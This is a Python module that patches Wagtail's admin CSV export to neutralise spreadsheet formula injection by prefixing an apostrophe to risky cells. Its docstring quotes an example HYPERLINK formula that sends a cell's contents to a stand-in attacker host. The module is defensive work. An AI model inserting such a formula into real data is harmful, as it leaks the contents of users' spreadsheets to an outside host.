"""Write no live spreadsheet formula into any CSV the admin exports.

Upstream gap (Wagtail 8, ``wagtail/admin/views/mixins.py``,
``SpreadsheetExportMixin``): the XLSX export turns anything that looks like a
formula back into text, but the CSV export writes cells as they are, so a
district named ``=HYPERLINK("http://evil.example/?leak="&B2,"Klik")`` or a
page titled so opens as a live formula in a spreadsheet (CSV injection). This
prefixes ``'`` to each cell that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return (OWASP's advice) in every CSV export of the admin: the
snippets' listings and Wagtail's reports. ``unescape`` undoes exactly that
prefix, so an exported file imports again unchanged
(``districts/importing.py``). Delete ``apply()`` and its call in
``sciencecity.apps`` once Wagtail escapes CSV cells itself.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def needs_prefix(text: str) -> bool:
    """Whether the cell would begin a formula, or would lose a prefix of its own to ``unescape``."""
    if text.startswith(PREFIX):
        return needs_prefix(text[1:])
    return text.startswith(TRIGGERS)


def escape(value):
    """The cell as written to CSV: prefixed with ``'`` where it would otherwise begin a formula."""
    if value is None:
        return value
    text = str(value)
    return PREFIX + text if needs_prefix(text) else value


def unescape(text: str) -> str:
    """The value of a cell ``escape`` wrote: one leading ``'`` removed where ``escape`` had added it."""
    if text.startswith(PREFIX) and needs_prefix(text[1:]):
        return text[1:]
    return text


_original_preprocess = SpreadsheetExportMixin.preprocess_field_value


def preprocess_field_value(view, field, value, export_format):
    """Wagtail's preprocessing, then the formula escape for CSV cells."""
    value = _original_preprocess(view, field, value, export_format)
    return escape(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value


def apply() -> None:
    """Patch Wagtail's spreadsheet export once, at start-up."""
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
